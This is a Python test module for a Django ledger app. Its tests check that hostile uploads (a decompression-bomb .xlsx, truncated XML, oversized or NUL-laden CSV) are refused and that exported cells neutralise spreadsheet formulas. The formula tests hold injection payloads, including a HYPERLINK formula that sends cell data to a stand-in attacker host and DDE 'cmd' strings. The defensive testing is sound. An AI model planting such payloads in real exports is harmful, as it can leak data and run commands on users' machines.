"""Hostile ledger files get a clear 400 and cost a bounded amount; the CSV download runs no formula."""

import csv
import io
import zipfile
from unittest import mock

from openpyxl import Workbook
from openpyxl.worksheet._reader import WorkSheetParser

from policies import ledger, ledger_files
from policies.models import Commitment, ProgressUpdate

from .factories import make_commitment
from .test_ledger import DOWNLOAD, LedgerTestCase

SHEET = "xl/worksheets/sheet1.xml"
SHEET_START = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
               'spreadsheetml/2006/main"><sheetData>')


def with_sheet(data, sheet_xml):
    """The .xlsx ``data`` with its first sheet replaced by ``sheet_xml`` (bytes)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item.filename, sheet_xml if item.filename == SHEET else source.read(item.filename))
    return out.getvalue()


def header_row():
    cells = "".join(f'<c t="inlineStr"><is><t>{name}</t></is></c>' for name in ledger.HEADER)
    return f'<row r="1">{cells}</row>'


class HostileFileTests(LedgerTestCase):
    def setUp(self):
        self.client.force_login(self.reporter)
        workbook = Workbook()
        workbook.active.append(ledger.HEADER)
        self.template = self.save(workbook)
        self.before = ProgressUpdate.objects.count()

    def assert_refused(self, name, data, message):
        response = self.upload(name, data)
        self.assertContains(response, message, status_code=400)
        self.assertEqual(ProgressUpdate.objects.count(), self.before)

    def test_a_million_empty_rows_without_dimension_is_refused_after_the_row_limit(self):
        body = "<row/>" * 1_000_000
        data = with_sheet(self.template, f"{SHEET_START}{header_row()}{body}</sheetData></worksheet>".encode())
        self.assertLess(len(data), 100_000)  # tiny on the wire
        parsed = []
        original = WorkSheetParser.parse

        def counting(parser):
            for item in original(parser):
                parsed.append(item[0])
                yield item

        with mock.patch.object(WorkSheetParser, "parse", counting):
            self.assert_refused("bomb.xlsx", data, f"一次最多导入 {ledger.MAX_ROWS} 行")
        # Bounded by construction: the sheet was read only up to the limit, not to its millionth row.
        self.assertLessEqual(len(parsed), ledger.MAX_ROWS + 2)

    def test_parts_declaring_more_than_a_ledger_can_unpack_to_are_refused_before_parsing(self):
        body = "<row/>" * (ledger_files.MAX_SHEET_XML // 6 + 1)
        data = with_sheet(self.template, f"{SHEET_START}{body}</sheetData></worksheet>".encode())
        with mock.patch("openpyxl.load_workbook", side_effect=AssertionError("parsed")) as load:
            self.assert_refused("big.xlsx", data, "该 Excel 文件解压后过大")
        load.assert_not_called()

    def test_truncated_xml_is_a_clear_400(self):
        xml = f"{SHEET_START}{header_row()}<row r=\"2\"><c r=\"A2\"><v>1".encode()
        self.assert_refused("truncated.xlsx", with_sheet(self.template, xml), "无法读取该 Excel 文件")

    def test_a_csv_field_over_the_csv_modules_limit_is_a_clear_400(self):
        text = ",".join(ledger.HEADER) + "\n" + '1,,,,,,,2021-06-30,推进中,50,"' + "长" * 131_073 + '",\n'
        self.assert_refused("long.csv", text.encode(), "CSV 文件第 2 行无法读取：有一个单元格超过 131,072 个字符")

    def test_a_csv_with_nul_bytes_is_refused(self):
        text = ",".join(ledger.HEADER) + "\n1,,,,,,,2021-06-30,推进中,50,说明\x00里有空字符,\n"
        self.assert_refused("nul.csv", text.encode(), "CSV 文件中有空字符（NUL）")

    def test_other_control_characters_are_stripped_from_what_is_stored(self):
        mine = Commitment.objects.filter(organization=self.liangjiang).first().pk
        text = ",".join(ledger.HEADER) + f"\n{mine},,,,,,,2021-06-30,推进中,50,说明\x0b里有\x1b控制字符,\n"
        self.assertEqual(self.upload("ctl.csv", text.encode()).status_code, 302)
        self.assertEqual(ProgressUpdate.objects.get(commitment_id=mine, author=self.reporter).note, "说明里有控制字符")


class FormulaTests(LedgerTestCase):
    PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                "-2+3"]

    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        statement = Commitment.objects.filter(organization=cls.jiangbei).first().statement
        for payload in cls.PAYLOADS:
            make_commitment(statement=statement, summary=payload)

    def test_csv_download_neutralizes_formula_text(self):
        self.client.force_login(self.reviewer)
        text = self.client.get(DOWNLOAD, {"format": "csv"}).getvalue().decode("utf-8-sig")
        summaries = [row[3] for row in csv.reader(io.StringIO(text))]
        for payload in self.PAYLOADS:
            with self.subTest(payload=payload):
                self.assertIn("'" + payload, summaries)
                self.assertNotIn(payload, summaries)

    def test_xlsx_download_stores_formula_text_as_text(self):
        self.client.force_login(self.reviewer)
        sheet = self.download_xlsx().active
        cells = [row[3] for row in sheet.iter_rows(min_row=2)]
        stored = {cell.value: cell.data_type for cell in cells if cell.value in self.PAYLOADS}
        self.assertEqual(stored, dict.fromkeys(self.PAYLOADS, "s"))
